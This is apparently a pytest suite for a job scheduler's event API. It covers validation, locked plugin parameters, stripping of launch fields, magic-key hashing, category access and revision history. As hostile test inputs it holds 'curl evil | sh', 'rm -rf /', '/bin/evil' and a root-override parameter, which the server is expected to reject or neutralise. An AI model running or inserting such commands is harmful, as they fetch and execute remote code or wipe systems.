"""Events on one in-process node with real Redis: CRUD, validation of every part of an event, launch fields,
magic keys, locked plugin params, optimistic locking, list filters, category limits, running/queued jobs and
revision history."""

from __future__ import annotations

import hashlib
import re
import time
from typing import Any

import pytest

from cluster.launcher import Launch, build_job
from tests.authkit import Site, ok

Headers = dict[str, str]
Body = dict[str, Any]

SCRIPT = "#!/bin/sh\necho nightly"
MANUAL = {"type": "manual", "enabled": True}
# A plugin of our own with a parameter of each rule: required + regex, range, locked with a default.
PROBE: Body = {
    "id": "probe", "title": "Probe", "type": "event", "command": "/usr/bin/probe",
    "params": [
        {"id": "host", "title": "Host", "type": "text", "required": True, "regex": "^[a-z.]+$"},
        {"id": "port", "title": "Port", "type": "text", "range": [1, 65535]},
        {"id": "token", "title": "Token", "type": "text", "value": "default-token", "locked": True},
    ],
}  # fmt: skip
PROBE_PARAMS = {"host": "db.local", "port": "5432", "token": "t0"}
LAUNCH_FIELDS = ("command", "script", "uid", "gid", "cwd", "env", "kill", "runner")


def event_body(**changes: Any) -> Body:
    body: Body = {"title": "Nightly", "enabled": True, "category": "general", "plugin": "shellplug",
                  "targets": ["main"], "algo": "random", "params": {"script": SCRIPT, "annotate": False},
                  "triggers": [MANUAL]}  # fmt: skip
    body.update(changes)
    return body


def refused(status: int, data: dict[str, Any], code: str, http: int, *fragments: str) -> None:
    assert (status, data.get("code")) == (http, code), (status, data)
    for fragment in fragments:
        assert fragment.lower() in data["description"].lower(), (fragment, data)


async def create(site: Site, headers: Headers, **changes: Any) -> dict[str, Any]:
    event: dict[str, Any] = (await ok(site, "create_event", event_body(**changes), headers))["event"]
    return event


async def get_event(site: Site, event_id: str, headers: Headers) -> dict[str, Any]:
    event: dict[str, Any] = (await ok(site, "get_event", {"id": event_id}, headers))["event"]
    return event


async def event_ids(site: Site, headers: Headers, **filters: Any) -> list[str]:
    data = await ok(site, "get_events", filters or None, headers)
    assert data["list"]["length"] == len(data["rows"])
    return [r["id"] for r in data["rows"]]


async def make_user(site: Site, admin: Headers, username: str, **fields: Any) -> Headers:
    body = {"username": username, "email": f"{username}@example.com", "full_name": username.title(),
            "password": f"pw-{username}", **fields}  # fmt: skip
    status, data = await site.call("admin_create", body, ns="user", headers=admin)
    assert (status, data["code"]) == (200, 0), data
    sid, _ = await site.login(username, f"pw-{username}")
    return {"X-Session-ID": sid}


async def run(site: Site, event_id: str, headers: Headers) -> str:
    job_id: str = (await ok(site, "run_event", {"id": event_id}, headers))["id"]
    return job_id


QUEUE_LIMITS = [{"type": "job", "enabled": True, "amount": 1}, {"type": "queue", "enabled": True, "amount": 2}]


# -- create / get / update / delete -------------------------------------------------------------------------------


async def test_round_trip(site: Site, admin: Headers) -> None:
    assert await event_ids(site, admin) == []  # first start makes no events
    before = int(time.time())
    created = await create(site, admin, tags=["important"], notes="runs at night")
    after = time.time()
    event_id = created["id"]
    assert re.fullmatch(r"e[a-z0-9]{15}", event_id), event_id
    assert (created["revision"], created["username"]) == (1, "admin")
    assert before <= created["created"] == created["modified"] <= after
    body = event_body(tags=["important"], notes="runs at night")
    assert {k: created[k] for k in body} == body
    # Defaults for what the body left out.
    assert (created["fields"], created["actions"], created["limits"]) == ([], [], [])

    reply = await ok(site, "get_event", {"id": event_id}, admin)
    assert reply == {"code": 0, "event": created, "jobs": [], "queued": 0}
    assert await event_ids(site, admin) == [event_id]

    renamed = await ok(site, "update_event", {"id": event_id, "title": "Renamed", "enabled": False}, admin)
    assert renamed["event"]["title"] == "Renamed" and renamed["event"]["enabled"] is False  # the full merged event
    updated = await get_event(site, event_id, admin)
    assert (updated["title"], updated["enabled"], updated["revision"]) == ("Renamed", False, 2)
    # Sparse update: the rest is as it was.
    assert {k: v for k, v in updated.items() if k not in ("title", "enabled", "revision", "modified")} == {
        k: v for k, v in created.items() if k not in ("title", "enabled", "revision", "modified")}  # fmt: skip
    # `enabled` as a digit string is accepted and stored as a bool.
    await ok(site, "update_event", {"id": event_id, "enabled": "1"}, admin)
    assert (await get_event(site, event_id, admin))["enabled"] is True

    assert await ok(site, "delete_event", {"id": event_id}, admin) == {"code": 0}
    status, data = await site.call("get_event", {"id": event_id}, headers=admin)
    refused(status, data, "notfound", 404, event_id)
    assert await event_ids(site, admin) == []
    for api in ("update_event", "delete_event"):
        status, data = await site.call(api, {"id": event_id, "title": "Ghost"}, headers=admin)
        refused(status, data, "event", 500, event_id)


async def test_client_chosen_id_and_workflow(site: Site, admin: Headers) -> None:
    chosen = await create(site, admin, id="nightly_backup")
    assert chosen["id"] == "nightly_backup"
    status, data = await site.call("create_event", event_body(id="nightly_backup", title="Twin"), headers=admin)
    refused(status, data, "event", 500, "nightly_backup")
    assert (await get_event(site, "nightly_backup", admin))["title"] == "Nightly"
    # A workflow needs no targets and always runs the workflow plugin.
    flow = (await ok(site, "create_event", {"title": "Flow", "enabled": True, "category": "general",
                                            "type": "workflow", "plugin": "shellplug", "workflow": {"nodes": []},
                                            "triggers": [{"id": "t1", **MANUAL}]}, admin))["event"]  # fmt: skip
    assert (flow["type"], flow["plugin"], flow["targets"]) == ("workflow", "_workflow", [])


# -- validation ---------------------------------------------------------------------------------------------------

HOOK_ACTION = {"enabled": True, "condition": "error", "type": "web_hook", "web_hook": "example_hook"}
# (changes to the valid body, keys dropped from it, fragments the description must contain)
INVALID: list[tuple[Body, tuple[str, ...], tuple[str, ...]]] = [
    ({}, ("title",), ("title",)),
    ({"title": "  "}, (), ("title",)),
    ({}, ("category",), ("category",)),
    ({}, ("enabled",), ("enabled",)),
    ({"enabled": "maybe"}, (), ("'enabled'",)),
    ({"category": "nope"}, (), ("category", "nope")),
    ({}, ("plugin",), ("plugin",)),
    ({"plugin": "nope"}, (), ("plugin", "nope")),
    ({"tags": ["important", "nope"]}, (), ("tag", "nope")),
    ({"targets": []}, (), ("targets",)),
    ({}, ("targets",), ("targets",)),
    ({"algo": "fastest"}, (), ("'algo'",)),
    ({"algo": "monitor:"}, (), ("'algo'",)),
    ({"params": "script"}, (), ("'params'",)),
    ({"params": {"script": ""}}, (), ("'script'", "required")),
    ({"plugin": "probe", "params": {"port": "80"}}, (), ("'host'", "required")),
    ({"plugin": "probe", "params": {**PROBE_PARAMS, "host": "DB_01"}}, (), ("'host'", "invalid")),
    ({"plugin": "probe", "params": {**PROBE_PARAMS, "port": "70000"}}, (), ("'port'", "1..65535")),
    ({"plugin": "probe", "params": {**PROBE_PARAMS, "port": "0"}}, (), ("'port'",)),
    ({"plugin": "probe", "params": {**PROBE_PARAMS, "port": "http"}}, (), ("'port'", "number")),
    ({"params": {"script": SCRIPT, "_xy_override_command": "/bin/evil"}}, (), ("_xy_override_command",)),
    ({"params": {"script": SCRIPT, "_xy_override_username": "root"}}, (), ("_xy_override_username",)),
    ({"triggers": [{"type": "schedule", "enabled": True, "hours": [3, 24]}]}, (), ("triggers[0]", "'hours'")),
    ({"triggers": [MANUAL, {"type": "schedule", "enabled": True}, MANUAL]}, (), ("triggers[2]", "manual")),
    (
        {
            "triggers": [
                {"type": "interval", "enabled": True, "start": 1_700_000_000, "duration": 300},
                {"type": "precision", "enabled": True, "seconds": [0, 30]},
            ]
        },
        (),
        ("triggers[1]", "precision", "interval"),
    ),
    ({"triggers": [{"type": "teleport", "enabled": True}]}, (), ("triggers[0]", "teleport")),
    ({"triggers": "manual"}, (), ("triggers",)),
    ({"actions": [HOOK_ACTION, {**HOOK_ACTION, "condition": "sometimes"}]}, (), ("actions[1]", "sometimes")),
    ({"actions": [{**HOOK_ACTION, "web_hook": "no_such_hook"}]}, (), ("actions[0]", "web_hook", "no_such_hook")),
    ({"actions": [{"condition": "error", "type": "snapshot"}]}, (), ("actions[0]", "enabled")),
    ({"limits": [{"enabled": True, "type": "bogus"}]}, (), ("limits[0]", "bogus")),
    ({"limits": [{"enabled": True, "type": "time"}]}, (), ("limits[0]", "duration")),
    ({"limits": [{"enabled": True, "type": "queue", "amount": 3}]}, (), ("limits[0]", "'job'")),
    ({"limits": [{"enabled": True, "type": "job", "amount": -1}]}, (), ("limits[0]", "amount")),
    ({"fields": [{"id": "1x", "title": "X", "type": "text"}]}, (), ("fields[0]", "'id'")),
    ({"fields": [{"id": "env", "title": "Env", "type": "text", "regex": "("}]}, (), ("fields[0]", "regex")),
    ({"fields": "env"}, (), ("'fields'",)),
]


@pytest.mark.parametrize(("changes", "drop", "fragments"), INVALID,
                         ids=[f"{i}-{(c[1] or tuple(c[0]))[0]}" for i, c in enumerate(INVALID)])  # fmt: skip
async def test_validation_names_the_field(site: Site, admin: Headers, changes: Body, drop: tuple[str, ...],
                                          fragments: tuple[str, ...]) -> None:  # fmt: skip
    await ok(site, "create_plugin", PROBE, admin)
    stored = await create(site, admin, id="keeper")
    body = {k: v for k, v in event_body(**changes).items() if k not in drop}
    status, data = await site.call("create_event", body, headers=admin)
    refused(status, data, "api", 400, *fragments)
    assert await event_ids(site, admin) == ["keeper"]
    if drop:
        return
    # The same change on an existing event is refused too and leaves it untouched.
    status, data = await site.call("update_event", {"id": "keeper", **changes}, headers=admin)
    refused(status, data, "api", 400, *fragments)
    assert await get_event(site, "keeper", admin) == stored


async def test_valid_parts_are_stored_normalised(site: Site, admin: Headers) -> None:
    await ok(site, "create_plugin", PROBE, admin)
    triggers = [MANUAL, {"type": "schedule", "enabled": 1, "hours": [4, 3, 3], "minutes": [30]},
                {"type": "single", "enabled": False, "epoch": 1_700_000_123}]  # fmt: skip
    limits = [{"enabled": True, "type": "job", "amount": 2}, {"enabled": True, "type": "queue", "amount": 5}]
    fields = [{"id": "env", "title": "Env", "type": "text", "required": True}]
    event = await create(site, admin, plugin="probe", params=PROBE_PARAMS, triggers=triggers, limits=limits,
                         actions=[HOOK_ACTION], fields=fields, algo="monitor:load_avg", targets="main, db",
                         tags=["flag"])  # fmt: skip
    assert event["triggers"] == [MANUAL, {"type": "schedule", "enabled": True, "hours": [3, 4], "minutes": [30]},
                                 {"type": "single", "enabled": False, "epoch": 1_700_000_100}]  # fmt: skip
    assert (event["limits"], event["actions"], event["fields"]) == (limits, [HOOK_ACTION], fields)
    assert (event["algo"], event["targets"], event["params"]) == ("monitor:load_avg", ["main", "db"], PROBE_PARAMS)
    assert await get_event(site, event["id"], admin) == event
    # Other `_xy_override_` params (not core or launch props) are allowed.
    over = await create(site, admin, params={"script": SCRIPT, "_xy_override_label": "nightly"})
    assert over["params"]["_xy_override_label"] == "nightly"


async def test_launch_fields_are_stripped(site: Site, admin: Headers) -> None:
    launch = {"command": "/bin/evil", "script": "rm -rf /", "uid": "root", "gid": "root", "cwd": "/",
              "env": {"A": "1"}, "kill": "none", "runner": True}  # fmt: skip
    assert set(launch) == set(LAUNCH_FIELDS)
    event = await create(site, admin, **launch)
    assert not set(LAUNCH_FIELDS) & set(event)
    assert not set(LAUNCH_FIELDS) & set(await get_event(site, event["id"], admin))
    await ok(site, "update_event", {"id": event["id"], "title": "Again", **launch}, admin)
    stored = await get_event(site, event["id"], admin)
    assert stored["title"] == "Again" and not set(LAUNCH_FIELDS) & set(stored)


async def test_magic_key_is_hashed_into_a_token(site: Site, admin: Headers) -> None:
    def sha(text: str) -> str:
        return hashlib.sha256(text.encode()).hexdigest()

    magic = {"type": "magic", "enabled": True, "key": "open-sesame"}
    chosen = await create(site, admin, id="ev_magic", triggers=[MANUAL, magic])
    assert chosen["triggers"][1] == {"type": "magic", "enabled": True, "token": sha("open-sesame" + "ev_magic")}
    generated = await create(site, admin, triggers=[magic])
    assert generated["triggers"] == [{"type": "magic", "enabled": True,
                                      "token": sha("open-sesame" + generated["id"])}]  # fmt: skip
    assert await get_event(site, "ev_magic", admin) == chosen
    # An update hashes new keys and keeps existing tokens.
    kept = chosen["triggers"][1]
    await ok(site, "update_event", {"id": "ev_magic", "triggers": [kept, {**magic, "key": "other"}]}, admin)
    stored = await get_event(site, "ev_magic", admin)
    assert stored["triggers"] == [kept, {"type": "magic", "enabled": True, "token": sha("other" + "ev_magic")}]
    # The plain key appears nowhere: not in the event, nor in its history.
    history = await ok(site, "get_event_history", {"id": "ev_magic", "limit": 10}, admin)
    assert "open-sesame" not in str(stored) and "open-sesame" not in str(history)
    assert "other" not in str(stored["triggers"])


async def test_locked_plugin_params(site: Site, admin: Headers) -> None:
    await ok(site, "create_plugin", PROBE, admin)
    shell = (await ok(site, "get_plugin", {"id": "shellplug"}, admin))["plugin"]
    default_script = next(p["value"] for p in shell["params"] if p["id"] == "script")
    assert default_script != SCRIPT
    dev = await make_user(site, admin, "dev", privileges={"create_events": True, "edit_events": True})

    # A non-admin cannot choose a locked param: it gets the plugin default; unlocked ones are kept.
    mine = await create(site, dev, params={"script": "curl evil | sh", "annotate": True})
    assert mine["params"] == {"script": default_script, "annotate": True} and mine["username"] == "dev"
    assert (await get_event(site, mine["id"], admin))["params"] == mine["params"]
    # An admin keeps its own.
    theirs = await create(site, admin, params={"script": SCRIPT, "annotate": False})
    assert theirs["params"]["script"] == SCRIPT

    # A non-admin edit of the same plugin leaves the locked value as it was.
    await ok(site, "update_event", {"id": theirs["id"], "params": {"script": "curl evil | sh", "annotate": True}},
             dev)  # fmt: skip
    assert (await get_event(site, theirs["id"], admin))["params"] == {"script": SCRIPT, "annotate": True}
    # Switching plugins resets locked params to the new plugin's defaults.
    await ok(site, "update_event", {"id": theirs["id"], "plugin": "probe", "params": {**PROBE_PARAMS, "token": "x"}},
             dev)  # fmt: skip
    assert (await get_event(site, theirs["id"], admin))["params"] == {**PROBE_PARAMS, "token": "default-token"}
    # The admin may set it.
    await ok(site, "update_event", {"id": theirs["id"], "params": {**PROBE_PARAMS, "token": "admin-set"}}, admin)
    assert (await get_event(site, theirs["id"], admin))["params"]["token"] == "admin-set"


async def test_stale_revision_and_type_change_are_refused(site: Site, admin: Headers) -> None:
    event = await create(site, admin)
    await ok(site, "update_event", {"id": event["id"], "title": "Two", "revision": 1}, admin)
    status, data = await site.call("update_event", {"id": event["id"], "title": "Stale", "revision": 1},
                                   headers=admin)  # fmt: skip
    refused(status, data, "api", 400, "revision", event["id"])
    current = await get_event(site, event["id"], admin)
    assert (current["title"], current["revision"]) == ("Two", 2)
    await ok(site, "update_event", {"id": event["id"], "title": "Three", "revision": "2"}, admin)

    status, data = await site.call("update_event", {"id": event["id"], "type": "workflow"}, headers=admin)
    refused(status, data, "api", 400, "'type'")
    flow = (await ok(site, "create_event", {"title": "Flow", "enabled": True, "category": "general",
                                            "type": "workflow", "triggers": []}, admin))["event"]  # fmt: skip
    status, data = await site.call("update_event", {"id": flow["id"], "type": "adhoc"}, headers=admin)
    refused(status, data, "api", 400, "'type'")
    assert (await get_event(site, flow["id"], admin))["type"] == "workflow"
    # Echoing back an empty type on a plain event is no change.
    await ok(site, "update_event", {"id": event["id"], "type": "", "title": "Four"}, admin)
    assert (await get_event(site, event["id"], admin))["title"] == "Four"


# -- lists, limits and access ------------------------------------------------------------------------------------


async def test_get_events_exact_match_filters(site: Site, admin: Headers) -> None:
    await ok(site, "create_category", {"id": "ops", "title": "Ops"}, admin)
    a = (await create(site, admin, title="A"))["id"]
    b = (await create(site, admin, title="B", enabled=False))["id"]
    c = (await create(site, admin, title="C", category="ops"))["id"]
    assert sorted(await event_ids(site, admin)) == sorted([a, b, c])
    assert sorted(await event_ids(site, admin, category="general")) == sorted([a, b])
    assert sorted(await event_ids(site, admin, enabled=True)) == sorted([a, c])
    assert await event_ids(site, admin, enabled=False) == [b]
    assert await event_ids(site, admin, category="general", enabled=True) == [a]
    assert await event_ids(site, admin, title="C") == [c]
    assert await event_ids(site, admin, category="nope") == []
    # Query-string values ("true", text) match the same way.
    status, data = await site.call("get_events", method="GET", query={"category": "general", "enabled": "true"},
                                   headers=admin)  # fmt: skip
    assert status == 200 and [r["id"] for r in data["rows"]] == [a] and data["list"]["length"] == 1
    status, data = await site.call("get_events", method="GET", query={"enabled": "false"}, headers=admin)
    assert [r["id"] for r in data["rows"]] == [b]


async def test_category_limited_user(site: Site, admin: Headers) -> None:
    await ok(site, "create_category", {"id": "ops", "title": "Ops"}, admin)
    general = await create(site, admin, title="General one")
    ops = await create(site, admin, title="Ops one", category="ops")
    privs = {"create_events": True, "edit_events": True, "delete_events": True, "run_jobs": True}
    limited = await make_user(site, admin, "opsonly", privileges=privs, categories=["ops"])

    assert await event_ids(site, limited) == [ops["id"]]
    assert await event_ids(site, limited, enabled=True) == [ops["id"]]
    assert await get_event(site, ops["id"], limited) == ops
    for api, body in (("get_event", {"id": general["id"]}), ("update_event", {"id": general["id"], "title": "x"}),
                      ("delete_event", {"id": general["id"]}), ("get_event_history", {"id": general["id"]}),
                      ("run_event", {"id": general["id"]}), ("create_event", event_body(title="Sneaky")),
                      ("update_event", {"id": ops["id"], "category": "general"})):  # fmt: skip
        status, data = await site.call(api, body, headers=limited)
        refused(status, data, "access", 403)
    assert await get_event(site, general["id"], admin) == general
    assert await get_event(site, ops["id"], admin) == ops
    assert sorted(await event_ids(site, admin)) == sorted([general["id"], ops["id"]])
    # Inside its category everything works.
    made = await create(site, limited, title="Mine", category="ops")
    await ok(site, "update_event", {"id": made["id"], "title": "Mine 2"}, limited)
    history = await ok(site, "get_event_history", {"id": made["id"], "limit": 5}, limited)
    assert [r["action"] for r in history["rows"]] == ["event_update", "event_create"]
    await ok(site, "delete_event", {"id": made["id"]}, limited)
    assert await event_ids(site, limited) == [ops["id"]]


async def test_get_event_reports_running_and_queued_jobs(site: Site, admin: Headers) -> None:
    event = await create(site, admin, limits=QUEUE_LIMITS)
    other = await create(site, admin, title="Other", limits=QUEUE_LIMITS)
    queued = [await run(site, event["id"], admin) for _ in range(2)]
    await run(site, other["id"], admin)
    # An agent-run job in state `active` (agents are not part of this node yet: stored directly).
    active = await build_job(site.node.stores, Launch(event=event, source="scheduler"))
    active["state"] = "active"
    assert await site.node.stores.jobs.launch(site.node.fence(), active)

    reply = await ok(site, "get_event", {"id": event["id"]}, admin)
    assert reply["queued"] == 2
    assert [j["id"] for j in reply["jobs"]] == [active["id"]]
    assert reply["jobs"][0]["state"] == "active" and reply["jobs"][0]["event"] == event["id"]
    assert not set(queued) & {j["id"] for j in reply["jobs"]}
    other_reply = await ok(site, "get_event", {"id": other["id"]}, admin)
    assert (other_reply["jobs"], other_reply["queued"]) == ([], 1)


async def test_delete_refused_while_a_job_is_active(site: Site, admin: Headers) -> None:
    event = await create(site, admin, limits=QUEUE_LIMITS)
    await run(site, event["id"], admin)  # no agents: queued
    status, data = await site.call("delete_event", {"id": event["id"]}, headers=admin)
    refused(status, data, "event", 500, "active")
    assert await get_event(site, event["id"], admin) == event
    assert (await ok(site, "flush_event_queue", {"id": event["id"]}, admin))["count"] == 1
    await ok(site, "delete_event", {"id": event["id"]}, admin)
    assert await event_ids(site, admin) == []
    # A completed job does not block.
    done = await create(site, admin)
    job_id = await run(site, done["id"], admin)
    assert (await ok(site, "get_job", {"id": job_id}, admin))["job"]["state"] == "complete"
    await ok(site, "delete_event", {"id": done["id"]}, admin)


async def test_event_history(site: Site, admin: Headers) -> None:
    event = await create(site, admin, title="V1")
    await ok(site, "update_event", {"id": event["id"], "title": "V2"}, admin)
    await ok(site, "update_event", {"id": event["id"], "title": "V3"}, admin)
    other = await create(site, admin, title="Unrelated")
    await ok(site, "update_event", {"id": other["id"], "title": "Unrelated 2"}, admin)

    found = await ok(site, "get_event_history", {"id": event["id"], "limit": 10}, admin)
    rows = found["rows"]
    assert found["list"]["length"] == len(rows) == 3
    assert [r["action"] for r in rows] == ["event_update", "event_update", "event_create"]
    assert [r["event"]["title"] for r in rows] == ["V3", "V2", "V1"]
    assert [r["event"]["revision"] for r in rows] == [3, 2, 1]
    assert all(r["username"] == "admin" and not {"ip", "ips", "headers"} & set(r) for r in rows), rows
    epochs = [r["epoch"] for r in rows]
    assert epochs == sorted(epochs, reverse=True)
    # Default limit 1 (the newest); offset pages; sort_dir 1 is oldest first.
    first = await ok(site, "get_event_history", {"id": event["id"]}, admin)
    assert [r["id"] for r in first["rows"]] == [rows[0]["id"]] and first["list"]["length"] == 3
    page = await ok(site, "get_event_history", {"id": event["id"], "offset": 1, "limit": 1}, admin)
    assert [r["id"] for r in page["rows"]] == [rows[1]["id"]]
    oldest = await ok(site, "get_event_history", {"id": event["id"], "limit": 10, "sort_dir": 1}, admin)
    assert [r["id"] for r in oldest["rows"]] == [r["id"] for r in reversed(rows)]
    # A deleted event keeps its history, delete record first.
    await ok(site, "delete_event", {"id": event["id"]}, admin)
    after = await ok(site, "get_event_history", {"id": event["id"], "limit": 10}, admin)
    assert [r["action"] for r in after["rows"]] == ["event_delete", "event_update", "event_update", "event_create"]
    status, data = await site.call("get_event_history", {"id": "no_such_event"}, headers=admin)
    refused(status, data, "event", 500, "no_such_event")
